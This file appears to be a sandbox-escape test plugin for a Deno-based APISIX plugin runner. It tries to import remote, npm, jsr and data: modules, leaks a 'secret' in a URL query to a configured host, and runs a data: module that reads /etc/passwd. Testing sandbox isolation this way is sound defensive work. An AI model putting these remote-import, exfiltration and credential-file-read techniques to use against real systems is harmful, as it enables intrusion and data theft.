/**
 * Attack: load code from outside the plugin's files: remote URLs (which could also leak data in
 * the URL), npm: and jsr: packages, a package the runner does not depend on, and data: code.
 *
 * @module
 */
import { definePlugin } from "@apisix/deno-plugin-runner";
import { attempt } from "./attempts.ts";

const DATA_MODULE = `let outcome;
try { Deno.readTextFileSync("/etc/passwd"); outcome = "READ"; } catch (e) { outcome = e.name; }
throw new Error("data module ran; /etc/passwd: " + outcome);`;

export default definePlugin<{ local: string }>({
  name: "remote_import",
  parseConf: (raw) => JSON.parse(raw),
  async requestFilter(conf, _req, res) {
    const computed = (specifier: string) => import(specifier);
    // Computed specifiers: a literal npm:/jsr:/https: import is resolved when the module loads,
    // so the plugin would not load at all (the sandbox runs with --frozen and --deny-import).
    await attempt(res, {
      https: () => computed("https://deno.land/std@0.224.0/version.ts"),
      esmSh: () => computed("https://esm.sh/left-pad@1.3.0"),
      localHttp: () => computed(`http://${conf.local}/module.js?secret=leaked`),
      npm: () => computed("npm:left-pad@1.3.0"),
      npmUnknown: () => computed("npm:" + "is-odd@3.0.1"),
      jsr: () => computed("jsr:@std/path@1"),
      // A data: module loads (it is code the plugin could have written itself) and runs with
      // the plugin's own permissions: it reports what its read of /etc/passwd met.
      dataUrl: () => computed(`data:text/javascript,${encodeURIComponent(DATA_MODULE)}`),
    });
  },
});
